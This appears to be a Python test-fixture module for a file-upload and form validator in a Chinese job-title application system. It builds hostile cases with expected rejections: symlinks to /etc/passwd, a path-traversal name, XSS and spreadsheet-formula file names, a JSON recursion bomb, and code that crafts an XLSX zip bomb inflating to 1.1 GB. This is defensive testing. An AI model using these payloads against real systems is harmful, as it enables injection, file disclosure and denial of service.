XSS_NAME = "<img src=x onerror=alert(1)>.pdf"
FORMULA_NAME = "=HYPERLINK(\"http:\u2215\u2215198.51.100.7\",\"点击\").pdf"
ID_NAME_INDEX = 900
ID_NAME = f"{id_number(ID_NAME_INDEX)}身份证.jpg"

FOLDER_CASES = [
    folder_case("symlink-to-file-outside", "an upload that is a symbolic link to /etc/passwd",
                _link("毕业证.pdf", lambda f, o: "/etc/passwd"),
                Expect(files={"毕业证.pdf": ("rejected", "symbolic link")})),
    folder_case("symlink-to-pdf-outside", "a symbolic link to a PDF outside the window",
                _link("毕业证.pdf", lambda f, o: o / "secret.pdf"),
                Expect(files={"毕业证.pdf": ("rejected", "symbolic link")})),
    folder_case("symlink-to-dir-outside", "a folder that is a symbolic link outside the window",
                _link("材料", lambda f, o: o),
                Expect(files={"材料": ("rejected", "symbolic link")})),
    folder_case("symlink-dangling", "a symbolic link to nothing",
                _link("聘书.jpg", lambda f, o: f / "nowhere.jpg"),
                Expect(files={"聘书.jpg": ("rejected", "symbolic link")})),
    folder_case("symlink-loop", "two symbolic links pointing at each other",
                _steps(_link("a.pdf", lambda f, o: f / "b.pdf"),
                       _link("b.pdf", lambda f, o: f / "a.pdf")),
                Expect(files={"a.pdf": ("rejected", "symbolic link"),
                              "b.pdf": ("rejected", "symbolic link")})),
    folder_case("symlink-to-sibling", "a symbolic link to another upload of the same applicant",
                _steps(_write("学历.pdf", text_pdf), _link("毕业证.pdf", lambda f, o: "学历.pdf")),
                Expect(files={"学历.pdf": ("unlisted", ""),
                              "毕业证.pdf": ("rejected", "symbolic link")})),
    folder_case("symlink-form", "application.json is a symbolic link to a form outside the window",
                _form_link, Expect(files={"application.json": ("rejected", "symbolic link")},
                                   errors=("application.json is a symbolic link",),
                                   processed=False)),
    folder_case("fifo-upload", "an upload that is a named pipe (reading it would block forever)",
                _fifo("毕业证.pdf"),
                Expect(files={"毕业证.pdf": ("rejected", "not a regular file")})),
    folder_case("fifo-form", "application.json is a named pipe",
                lambda f, o: ((f / "application.json").unlink(), os.mkfifo(f / "application.json")),
                Expect(files={"application.json": ("rejected", "not a regular file")},
                       errors=("application.json is not a regular file",), processed=False)),
    folder_case("form-is-a-folder", "application.json is a folder",
                lambda f, o: ((f / "application.json").unlink(), (f / "application.json").mkdir()),
                Expect(errors=("application.json", "not a regular file"), processed=False)),
    folder_case("nested-folders", "uploads in sub-folders",
                _write("学历/2012/毕业证.pdf", text_pdf),
                Expect(files={"学历/2012/毕业证.pdf": ("unlisted", "")})),
    folder_case("name-not-utf8", "a file name in GBK bytes (not UTF-8)",
                _write(GBK_NAME, text_pdf), Expect(files={GBK_SHOWN: ("unlisted", "")})),
    folder_case("name-with-newline", "a file name with a line break and a comma",
                _write("毕业\n证,1.pdf", text_pdf),
                Expect(files={"毕业\n证,1.pdf": ("unlisted", "")})),
    folder_case("name-with-html", "a file name that is an HTML tag with a script",
                _write(XSS_NAME, lambda: b""),
                Expect(files={XSS_NAME: ("unreadable", "is empty")})),
    folder_case("name-with-formula", "a file name that is a spreadsheet formula",
                _write(FORMULA_NAME, lambda: b""),
                Expect(files={FORMULA_NAME: ("unreadable", "is empty")})),
    folder_case("name-with-id-number",
                "an unreadable file named after the applicant's identity number",
                _write(ID_NAME, lambda: b"not an image"),
                Expect(files={ID_NAME: ("unreadable", "content is not recognised")})),
    folder_case("hidden-file", "a .DS_Store left by a Mac",
                _write(".DS_Store", lambda: b"\x00\x00\x00\x01Bud1"),
                Expect(files={".DS_Store": ("unreadable", "unsupported")})),
    folder_case("declared-missing", "a declared upload that was never uploaded", lambda f, o: None,
                Expect(files={"聘书.jpg": ("missing", "not uploaded")}),
                attachments=[{"file": "聘书.jpg", "kind": "appointment_letter"}]),
    folder_case("declared-traversal", "a declared upload named ../../../etc/passwd",
                lambda f, o: None,
                Expect(files={"../../../etc/passwd": ("missing", "not uploaded")}),
                attachments=[{"file": "../../../etc/passwd", "kind": "other"}]),
]


# -- form cases ---------------------------------------------------------------------------------


def form_case(case_id: str, what: str, text: Callable[[str], bytes | None], errors: tuple[str, ...],
              *, flags: tuple[str, ...] = ()) -> Case:
    """An applicant whose application.json is `text(case_id)` (None: no form), beside one
    good upload that must still be listed."""
    label = f"applicants/{case_id}/application.json"

    def build(window: Path) -> None:
        folder = applicant(window, case_id)
        data = text(case_id)
        if data is not None:
            (folder / "application.json").write_bytes(data)
        (folder / "毕业证.pdf").write_bytes(text_pdf())

    if errors:
        expect = Expect(files={"毕业证.pdf": ("rejected", "application.json invalid")},
                        errors=(label, *errors), processed=False)
    else:
        expect = Expect(files={"毕业证.pdf": ("ok", "")}, flags=flags)
    return Case(case_id, "form", what, build, {case_id: expect})


def _json(raw: object) -> bytes:
    return json.dumps(raw, ensure_ascii=False).encode("utf-8")


def _good(case_id: str, **changes: Any) -> dict[str, Any]:
    raw = form(case_id, index_of(case_id), [{"file": "毕业证.pdf", "kind": "diploma"}])
    raw.update(changes)
    return raw


def _without(raw: dict[str, Any], *keys: str) -> dict[str, Any]:
    return {k: v for k, v in raw.items() if k not in keys}


FORM_CASES = [
    form_case("form-invalid-json", "a form cut off mid-way", lambda i: _json(_good(i))[:-40],
              ("invalid JSON at line",)),
    form_case("form-gbk", "a form saved in GBK instead of UTF-8",
              lambda i: json.dumps(_good(i), ensure_ascii=False).encode("gbk"),
              ("not UTF-8 text",)),
    form_case("form-empty-file", "a 0-byte form", lambda i: b"", ("invalid JSON",)),
    form_case("form-missing", "no application.json at all", lambda i: None,
              ("application.json is missing",)),
    form_case("form-array", "a JSON array instead of an object", lambda i: _json([_good(i)]),
              ("must be a JSON object",)),
    form_case("form-missing-fields", "a form without id_number, unit and level",
              lambda i: _json(_without(_good(i), "id_number", "unit", "level")),
              ("field 'id_number, unit, level'",)),
    form_case("form-wrong-types", "numbers where text is expected and text where lists are",
              lambda i: _json(_good(i, name=123, education="本科", papers={"title": 1})),
              ("name: Input should be a valid string", "education: Input should be a valid",
               "papers: Input should be a valid")),
    form_case("form-bad-enum", "a level and a unit type that do not exist",
              lambda i: _json(_good(i, level="特级", unit={**UNIT, "type": "company"})),
              ("level:", "unit.type:")),
    form_case("form-bad-dates", "a 13th month and a 30 February",
              lambda i: _json(_good(i, application_date="2024-02-30",
                                    education=[{**_good(i)["education"][0], "end": "2012-13"}])),
              ("application_date: not a date", "education[0].end: not a date")),
    form_case("form-deep-nesting", "arrays nested 100000 deep (a parser recursion bomb)",
              lambda i: (b'{"applicant_id": "' + i.encode() + b'", "x": '
                         + b"[" * 100_000 + b"]" * 100_000 + b"}"),
              ("nested too deeply",)),
    form_case("form-huge", "a 20 MB form", lambda i: _json(_good(i, specialty="土" * 7_000_000)),
              ("too large",)),
    form_case("form-nan", "NaN and Infinity where numbers are expected",
              lambda i: _json(_good(i)).replace(
                  b'"papers": []', b'"papers": [{"title": "t", "journal": "j", "year": NaN}]'),
              ("papers[0].year",)),
    form_case("form-id-mismatch", "a form whose applicant_id is another applicant's",
              lambda i: _json(_good(i, applicant_id="SOMEONE-ELSE")),
              ("form says 'SOMEONE-ELSE'",)),
    form_case("form-bad-applicant-id", "an applicant_id with a path in it",
              lambda i: _json(_good(i, applicant_id="../../etc")), ("applicant_id",)),
    form_case("form-utf8-bom", "a form with a UTF-8 byte-order mark (valid)",
              lambda i: b"\xef\xbb\xbf" + _json(_good(i)), ()),
    form_case("form-chinese-dates", "dates written 2019.01, 2019年1月 and 二〇一二年六月 (valid)",
              lambda i: _json(_good(i, application_date="2024年7月15日",
                                    current_title={"name": "助理工程师", "level": "初级",
                                                   "obtained_on": "2018.12",
                                                   "appointed_on": "2019年1月"},
                                    education=[{**_good(i)["education"][0], "start": "2008.09",
                                                "end": "二〇一二年六月"}])), ()),
    form_case("form-duplicate-keys", "the same key twice (the last wins, as JSON parsers do)",
              lambda i: _json(_good(i)).replace(
                  b'{"applicant_id"', b'{"level": "\xe7\x89\xb9\xe7\xba\xa7", "applicant_id"', 1),
              ()),
    form_case("form-paper-index-out-of-range",
              "an attachment pointing at paper 99 of 0 (valid form)",
              lambda i: _json(_good(i, attachments=[{"file": "毕业证.pdf", "kind": "paper",
                                                     "paper_index": 99}])), ()),
    form_case("form-control-characters",
              "NUL, RTL-override and zero-width characters in names (valid form)",
              lambda i: _json(_good(i, name="张\u0000伟\u202e\u200b",
                                    unit={**UNIT, "name": "柳州\u0000某某"})), ()),
    form_case("form-html-in-fields", "an applicant name that is an HTML script (valid form)",
              lambda i: _json(_good(i, name="<script>alert('x')</script>张伟")), ()),
]


def _two_forms(first: str, second: str, claimed: str, same_person: bool) -> Callable[[Path], None]:
    def build(window: Path) -> None:
        for folder_id in (first, second):
            folder = applicant(window, folder_id)
            index = index_of(first) if same_person else index_of(folder_id)
            write_form(folder, form(claimed if folder_id == second else folder_id, index,
                                    [{"file": "毕业证.pdf", "kind": "diploma"}]))
            (folder / "毕业证.pdf").write_bytes(text_pdf())
    return build


FORM_CASES += [
    Case("duplicate-applicant-id", "form", "two folders whose forms both say they are DUP-ID-A",
         _two_forms("DUP-ID-A", "DUP-ID-B", "DUP-ID-A", same_person=False),
         {"DUP-ID-A": Expect(files={"毕业证.pdf": ("ok", "")}),
          "DUP-ID-B": Expect(files={"毕业证.pdf": ("rejected", "application.json invalid")},
                             errors=("applicants/DUP-ID-B/application.json",
                                     "form says 'DUP-ID-A' but its folder is 'DUP-ID-B'"),
                             processed=False)}),
    Case("duplicate-identity-number", "form",
         "one identity number applying twice at the same level",
         _two_forms("DUP-PERSON-A", "DUP-PERSON-B", "DUP-PERSON-B", same_person=True),
         {"DUP-PERSON-A": Expect(files={"毕业证.pdf": ("ok", "")},
                                 flags=("DUPLICATE_APPLICATION",)),
          "DUP-PERSON-B": Expect(files={"毕业证.pdf": ("ok", "")},
                                 flags=("DUPLICATE_APPLICATION",))}),
]


# -- window cases: what sits in applicants/ ---------------------------------------------------


def _window_case(case_id: str, what: str, build: Callable[[Path], None],
                 applicants: Mapping[str, Expect],
                 problems: tuple[str, ...] = ()) -> Case:
    return Case(case_id, "window", what, build, dict(applicants), problems)


def _applicant_link(window: Path) -> None:
    target = window.parent / f"{window.name}-outside" / "LINKED"
    target.mkdir(parents=True, exist_ok=True)
    write_form(target, form("LINKED", index_of("LINKED")))
    os.symlink(target, window / "applicants" / "LINKED")


def _folder_with(name: str, form_id: str | None = None) -> Callable[[Path], None]:
    def build(window: Path) -> None:
        folder = window / "applicants" / name
        folder.mkdir(parents=True)
        write_form(folder, form(form_id or name, index_of(name),
                                [{"file": "毕业证.pdf", "kind": "diploma"}]))
        (folder / "毕业证.pdf").write_bytes(text_pdf())
    return build


LONG_ID = "L" + "o" * 63  # a valid id of 64 characters
LONG_NAME = "申报人" * 28  # 252 bytes in UTF-8: a folder may have it, "<name>.html" may not

WINDOW_CASES = [
    _window_case("applicant-folder-symlink",
                 "an applicant folder that is a symbolic link outside the window",
                 _applicant_link, {"LINKED": Expect(errors=("symbolic link",), processed=False)},
                 problems=("applicants/LINKED: symbolic link",)),
    _window_case("applicant-folder-bad-name", "an applicant folder named with spaces and Chinese",
                 _folder_with("张三 申报", "张三 申报"),
                 {"张三 申报": Expect(files={"毕业证.pdf": ("rejected",
                                                           "application.json invalid")},
                                    errors=("not a valid applicant id",), processed=False)}),
    _window_case("applicant-folder-long-name", "an applicant folder name of 252 bytes",
                 _folder_with(LONG_NAME, "X"),
                 {LONG_NAME: Expect(files={"毕业证.pdf": ("rejected", "application.json invalid")},
                                    errors=("not a valid applicant id",), processed=False)}),
    _window_case("applicant-id-64-chars", "the longest valid applicant id", _folder_with(LONG_ID),
                 {LONG_ID: Expect(files={"毕业证.pdf": ("ok", "")})}),
    _window_case("applicant-id-index",
                 "an applicant whose id is 'index' (the overview page's name)",
                 _folder_with("index"), {"index": Expect(files={"毕业证.pdf": ("ok", "")})}),
    _window_case("applicant-folder-empty", "an empty applicant folder",
                 lambda w: (w / "applicants" / "EMPTY-FOLDER").mkdir(),
                 {"EMPTY-FOLDER": Expect(errors=("application.json is missing",),
                                         processed=False)}),
    _window_case("stray-file-in-applicants", "a file lying in applicants/ beside the folders",
                 lambda w: (w / "applicants" / "名单.xlsx").write_bytes(b"PK\x03\x04"), {},
                 problems=("applicants/名单.xlsx: not a folder",)),
]


# -- reference tables: each in a window of its own ------------------------------------------------

PERSON = id_number(1)
PENSION_HEADER = "身份证号,姓名,单位名称,统一社会信用代码,费款所属期,险种,缴费类型,缴费基数"


def pension_csv(periods: tuple[str, ...] = ("202401", "202402"), header: str = PENSION_HEADER,
                person: str = PERSON, payer: str = "单位缴费") -> str:
    rows = [f"{person},张伟,柳州某某科技有限公司,91450200MA5KXXXXXX,{p},"
            f"企业职工基本养老保险,{payer},5000"
            for p in periods]
    return "\n".join([header, *rows]) + "\n"


def table_case(case_id: str, what: str, files: Mapping[str, Callable[[], bytes]],
               expect: TableExpect,
               links: Mapping[str, Callable[[Path], Path]] | None = None) -> Case:
    def build(window: Path) -> None:
        (window / "applicants").mkdir(parents=True, exist_ok=True)
        for name, payload in files.items():
            (window / name).write_bytes(payload())
        for name, target in (links or {}).items():
            os.symlink(target(window), window / name)

    return Case(case_id, "table", what, build, tables=expect)


def _xlsx(rows: list[list[object]], merges: tuple[str, ...] = ()) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    for cells in merges:
        sheet.merge_cells(cells)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _merged_header_xlsx() -> bytes:
    return _xlsx([["养老保险缴费明细（2024年）", None, None, None, None, None, None],
                  ["身份证号", "姓名", "单位信息", None, "费款所属期", "险种", "缴费类型"],
                  [None, None, "单位名称", "统一社会信用代码", None, None, None],
                  [PERSON, "张伟", "柳州某某科技有限公司", "91450200MA5KXXXXXX", 202403,
                   "企业职工基本养老保险", "单位缴费"],
                  [PERSON, "张伟", "柳州某某科技有限公司", "91450200MA5KXXXXXX", "2024年4月",
                   "企业职工基本养老保险", "单位缴费"]],
                 merges=("A1:G1", "C2:D2", "A2:A3", "B2:B3", "E2:E3", "F2:F3", "G2:G3"))


def _datetime_xlsx() -> bytes:
    import datetime as dt

    return _xlsx([["身份证号", "费款所属期", "缴费类型"],
                  [PERSON, dt.datetime(2024, 5, 1), "单位缴费"],
                  [PERSON, 2024.06, "单位缴费"], [PERSON, 2024.10, "单位缴费"]])


_SHEET_TAIL = b"</t></is></c></row></sheetData></worksheet>"


def _xlsx_bomb() -> bytes:
    """A workbook whose sheet XML inflates to 1.1 GB (one cell of one long string)."""
    sheet_head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                  b'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressed = (head.compress(sheet_head) + head.flush(zlib.Z_FULL_FLUSH)
                  + deflate_repeated(b"A" * 10_000_000, 110, _SHEET_TAIL)[2:-4])
    template = io.BytesIO(_xlsx([["身份证号", "费款所属期", "缴费类型"]]))
    out = io.BytesIO()
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, src.read(info))
    raw = out.getvalue()
    return _append_raw_member(raw, "xl/worksheets/sheet1.xml", compressed,
                              len(sheet_head) + 1_100_000_000 + len(_SHEET_TAIL))


def _append_raw_member(archive: bytes, name: str, deflated: bytes, size: int) -> bytes:
    """Rewrite `archive` with one more member given as raw deflate data (CRC left 0)."""
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        members = [(i, zf.read(i)) for i in zf.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in members:
            zf.writestr(info, data)
    data = bytearray(out.getvalue())
    cd_at = data.find(b"PK\x01\x02")
    end_at = data.find(b"PK\x05\x06")
    central = bytes(data[cd_at:end_at])
    count, = struct.unpack("<H", data[end_at + 10: end_at + 12])
    local_at = cd_at
    encoded = name.encode()
    size32 = min(size, 0xFFFFFFFF)
    local = (b"PK\x03\x04"
             + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, 0, len(deflated), size32,
                           len(encoded), 0)
             + encoded + deflated)
    entry = (b"PK\x01\x02"
             + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, 0, len(deflated), size32,
                           len(encoded), 0, 0, 0, 0, 0, local_at) + encoded)
    new_central = central + entry
    end = (b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count + 1, count + 1, len(new_central),
                                       local_at + len(local), 0))
    return bytes(data[:cd_at]) + local + new_central + end


TABLE_CASES = [
    table_case("pensions-gbk", "the pension export in GBK",
               {"social_security.csv": lambda: pension_csv().encode("gbk")},
               TableExpect(pensions=2, person=PERSON, months=("2024-01", "2024-02"))),
    table_case("pensions-gb18030-four-byte", "GB18030 with a name outside GBK (𠮷)",
               {"social_security.csv":
                lambda: pension_csv().replace("张伟", "张𠮷").encode("gb18030")},
               TableExpect(pensions=2, person=PERSON)),
    table_case("pensions-utf8-bom", "UTF-8 with a byte-order mark",
               {"social_security.csv": lambda: pension_csv().encode("utf-8-sig")},
               TableExpect(pensions=2, person=PERSON)),
    table_case("pensions-alias-headers",
               "headers as another bureau names them (公民身份号码, 缴费年月, 缴费方式)",
               {"social_security.csv": lambda: pension_csv(
                   header="公民身份号码,姓名,单位名称,信用代码,缴费年月,险种类型,缴费方式,缴费基数"
               ).encode()},
               TableExpect(pensions=2, person=PERSON)),
    table_case("pensions-header-noise", "headers with spaces, full-width colons and asterisks",
               {"social_security.csv": lambda: pension_csv(
                   header=" 身份证号：, 姓 名 ,单位名称,统一社会信用代码,*费款所属期,险种,"
                          "缴费类型 ,缴费基数"
               ).encode()},
               TableExpect(pensions=2, person=PERSON)),
    table_case("pensions-chinese-dates",
               "periods written 2019.01, 2019年1月, 2019/3, 2019-04 and 二〇一九年五月",
               {"social_security.csv": lambda: pension_csv(
                   ("2019.01", "2019年2月", "2019/3", "2019-04", "二〇一九年五月")).encode()},
               TableExpect(pensions=5, person=PERSON,
                           months=("2019-01", "2019-02", "2019-03", "2019-04", "2019-05"))),
    table_case("pensions-bad-rows", "a 13th month, an unknown payer and an empty identity number",
               {"social_security.csv": lambda: (
                   pension_csv(("202401", "2024-13"))
                   + pension_csv(("202402",), payer="现金").split("\n", 1)[1]
                   + pension_csv(("202403",), person="").split("\n", 1)[1]).encode()},
               TableExpect(pensions=1, problems=(
                   "social_security.csv row 3 field 'period': not a month: '2024-13'",
                   "social_security.csv row 4 field 'payer': unknown payer '现金'",
                   "social_security.csv row 5 field 'id_number': empty"))),
    table_case("pensions-missing-column", "no period column at all",
               {"social_security.csv": lambda: "身份证号,姓名,缴费类型\n1,2,单位缴费\n".encode()},
               TableExpect(pensions=None,
                           problems=("social_security.csv: missing column(s) period",))),
    table_case("pensions-renamed-column",
               "the identity column renamed to one no alias knows (证件号)",
               {"social_security.csv": lambda: pension_csv(
                   header=PENSION_HEADER.replace("身份证号", "证件号")).encode()},
               TableExpect(pensions=None,
                           problems=("missing column(s) id_number", "columns found: 证件号"))),
    table_case("pensions-unterminated-quote", "a quote that never closes (one 300 KB field)",
               {"social_security.csv":
                lambda: (pension_csv() + '"' + "x" * 300_000 + "\n").encode()},
               TableExpect(pensions=None, problems=("social_security.csv", "line"))),
    table_case("pensions-utf16", "the export saved as UTF-16",
               {"social_security.csv": lambda: pension_csv().encode("utf-16")},
               TableExpect(pensions=None,
                           problems=("social_security.csv: neither UTF-8 nor GBK/GB18030",))),
    table_case("pensions-binary", "random bytes named .csv",
               {"social_security.csv": lambda: random.Random(3).randbytes(3000)},
               TableExpect(pensions=None, problems=("social_security.csv",))),
    table_case("pensions-empty", "a 0-byte export", {"social_security.csv": lambda: b""},
               TableExpect(pensions=None, problems=("social_security.csv: missing column(s)",))),
    table_case("pensions-xlsx-merged-header",
               "an XLSX with a title row and a merged two-row header",
               {"social_security.xlsx": _merged_header_xlsx},
               TableExpect(pensions=2, person=PERSON, months=("2024-03", "2024-04"))),
    table_case("pensions-xlsx-date-cells",
               "an XLSX with periods as date cells and as numbers (2024.06, 2024.10)",
               {"social_security.xlsx": _datetime_xlsx},
               TableExpect(pensions=3, person=PERSON, months=("2024-05", "2024-06", "2024-10"))),
    table_case("pensions-xlsx-corrupt", "an XLSX cut in half",
               {"social_security.xlsx": lambda: truncated(_merged_header_xlsx(), 0.5)},
               TableExpect(pensions=None, problems=("social_security.xlsx: cannot open as XLSX",))),
    table_case("pensions-xlsx-is-csv", "a CSV named .xlsx",
               {"social_security.xlsx": lambda: pension_csv().encode()},
               TableExpect(pensions=None, problems=("social_security.xlsx: cannot open as XLSX",))),
    table_case("pensions-xlsx-bomb", "an XLSX whose sheet inflates to 1.1 GB",
               {"social_security.xlsx": _xlsx_bomb},
               TableExpect(pensions=None, problems=("social_security.xlsx", "too large"))),
    table_case("pensions-symlink", "the pension export is a symbolic link outside the window", {},
               TableExpect(pensions=None, problems=("social_security.csv", "symbolic link")),
               links={"social_security.csv":
                      lambda w: _outside_file(w, "ss.csv", pension_csv().encode())}),
    table_case("pensions-absent", "no pension export", {},
               TableExpect(pensions=None, problems=("social_security.csv/.xlsx is missing",))),
    table_case("integrity-chinese-dates", "integrity dates written 2023年1月 and 2026.01",
               {"social_security.csv": lambda: pension_csv().encode(),
                "integrity_records.csv": lambda: (
                    f"身份证号,姓名,失信事由,记录日期,到期日期\n"
                    f"{PERSON},张伟,论文造假,2023年1月,2026.01\n").encode("gbk")},
               TableExpect(pensions=2, integrity=1)),
    table_case("integrity-bad-dates", "an integrity record dated 2023-02-30",
               {"social_security.csv": lambda: pension_csv().encode(),
                "integrity_records.csv": lambda: (
                    f"身份证号,姓名,失信事由,记录日期,到期日期\n"
                    f"{PERSON},张伟,论文造假,2023-02-30,\n").encode()},
               TableExpect(pensions=2, integrity=0,
                           problems=("integrity_records.csv row 2 field 'recorded_on': "
                                     "not a date: '2023-02-30'",))),
    table_case("integrity-missing-column", "an integrity archive without its date column",
               {"social_security.csv": lambda: pension_csv().encode(),
                "integrity_records.csv":
                lambda: f"身份证号,姓名,失信事由\n{PERSON},张伟,论文造假\n".encode()},
               TableExpect(pensions=2, integrity=None,
                           problems=("integrity_records.csv: missing column(s) recorded_on",))),
]


def _outside_file(window: Path, name: str, data: bytes) -> Path:
    outside = window.parent / f"{window.name}-outside"
    outside.mkdir(parents=True, exist_ok=True)
    (outside / name).write_bytes(data)
    return outside / name


def _window_file_case(case_id: str, what: str, build: Callable[[Path], None], error: str) -> Case:
    def full(window: Path) -> None:
        (window / "applicants").mkdir(parents=True, exist_ok=True)
        build(window)

    return Case(case_id, "window", what, full, window_error=error)


WINDOW_FILE_CASES = [
    _window_file_case("window-toml-symlink", "window.toml is a symbolic link outside the window",
                      lambda w: os.symlink(_outside_file(w, "w.toml", b'policy = "liuzhou-2024"\n'),
                                           w / "window.toml"),
                      "window.toml: is a symbolic link"),
    _window_file_case("window-toml-garbage", "window.toml is not TOML",
                      lambda w: (w / "window.toml").write_bytes(b"\xff\xfe policy = ["),
                      "window.toml: cannot parse"),
]

CASES: list[Case] = [*PDF_CASES, *IMAGE_CASES, *TYPE_CASES, *ZIP_CASES, *FOLDER_CASES, *FORM_CASES,
                     *WINDOW_CASES, *TABLE_CASES, *WINDOW_FILE_CASES]
BY_ID = {c.id: c for c in CASES}
assert len(BY_ID) == len(CASES), "case ids must be unique"


# -- the end-to-end window ------------------------------------------------------------------------

GOOD_APPLICANTS = ("GOOD-001", "GOOD-002", "GOOD-003")


def _good_applicant(window: Path, applicant_id: str) -> None:
    folder = applicant(window, applicant_id)
    attachments = [{"file": "毕业证.pdf", "kind": "diploma"},
                   {"file": "聘书.jpg", "kind": "appointment_letter"},
                   {"file": "材料.zip", "kind": "other"}]
    write_form(folder, form(applicant_id, index_of(applicant_id), attachments,
                            application_date="2024年7月15日",
                            current_title={"name": "助理工程师", "level": "初级",
                                           "obtained_on": "2018.12",
                                           "appointed_on": "2019年1月"}))
    (folder / "毕业证.pdf").write_bytes(text_pdf())
    (folder / "聘书.jpg").write_bytes(jpeg_bytes())
    (folder / "材料.zip").write_bytes(zip_bytes([("学位证.pdf", text_pdf()),
                                                 ("考核表/2023.png", png_bytes())]))


GOOD_EXPECT = Expect(files={"毕业证.pdf": ("ok", ""), "聘书.jpg": ("ok", ""),
                            "材料.zip": ("ok", "archive: 2 file(s)"),
                            "材料.zip/学位证.pdf": ("ok", ""),
                            "材料.zip/考核表/2023.png": ("ok", "")})


def _window_pensions() -> bytes:
    """The window's pension export: GB18030, alias headers, Chinese dates, two bad rows."""
    header = "公民身份号码,姓名,单位名称,信用代码,缴费年月,险种类型,缴费方式,缴费基数"
    lines = [header]
    for applicant_id in GOOD_APPLICANTS:
        for month in range(1, 13):
            period = f"2023年{month}月" if month % 2 else f"2023.{month:02d}"
            lines.append(f"{id_number(index_of(applicant_id))},张伟,{UNIT['name']},{UNIT['credit_code']},{period},"
                         f"企业职工基本养老保险,单位缴费,5000")
        for month in range(1, 7):
            lines.append(f"{id_number(index_of(applicant_id))},张伟,{UNIT['name']},{UNIT['credit_code']},2024{month:02d},"
                         f"企业职工基本养老保险,单位缴费,5000")
    lines.append(f"{id_number(index_of('GOOD-001'))},张伟,{UNIT['name']},{UNIT['credit_code']},2024-13,企业职工基本养老保险,单位缴费,5000")
    lines.append(f"{id_number(index_of('GOOD-002'))},张伟,{UNIT['name']},{UNIT['credit_code']},202401,企业职工基本养老保险,代扣,5000")
    return ("\n".join(lines) + "\n").encode("gb18030")


# the header, then 18 good rows per good applicant, then the two bad rows
_BAD_ROW = 1 + 18 * len(GOOD_APPLICANTS) + 1
WINDOW_PROBLEMS = (f"social_security.csv row {_BAD_ROW} field 'period': not a month: '2024-13'",
                   f"social_security.csv row {_BAD_ROW + 1} field 'payer': unknown payer '代扣'")


def build_window(root: Path, cases: list[Case] | None = None) -> Path:
    """The end-to-end window: every in-window case, the good applicants, messy references."""
    window = root / "hostile-2024"
    (window / "applicants").mkdir(parents=True)
    (window / "window.toml").write_text('policy = "liuzhou-2024"\nreview_year = 2024\n',
                                        encoding="utf-8")
    (window / "social_security.csv").write_bytes(_window_pensions())
    (window / "integrity_records.xlsx").write_bytes(_xlsx(
        [["诚信档案库导出", None, None, None, None],
         ["身份证号", "姓名", "失信事由", "记录日期", "到期日期"],
         [id_number(index_of("GOOD-003")), "张伟", "2022年度申报中提供虚假材料", "2023年1月",
          "2026.01"]],
        merges=("A1:E1",)))
    for applicant_id in GOOD_APPLICANTS:
        _good_applicant(window, applicant_id)
    for case in cases if cases is not None else CASES:
        if case.in_window:
            case.build(window)
    return window


def window_expectations(cases: list[Case] | None = None) -> dict[str, Expect]:
    """Applicant id -> what the end-to-end outputs must show for it."""
    expected = {a: GOOD_EXPECT for a in GOOD_APPLICANTS}
    for case in cases if cases is not None else CASES:
        if case.in_window:
            expected.update(case.applicants)
    return expected


def identity_numbers() -> list[str]:
    """Every identity number the corpus writes (none may leave unmasked but in the CSVs)."""
    return sorted({id_number(i) for i in [*_INDEX.values(), ID_NAME_INDEX]})
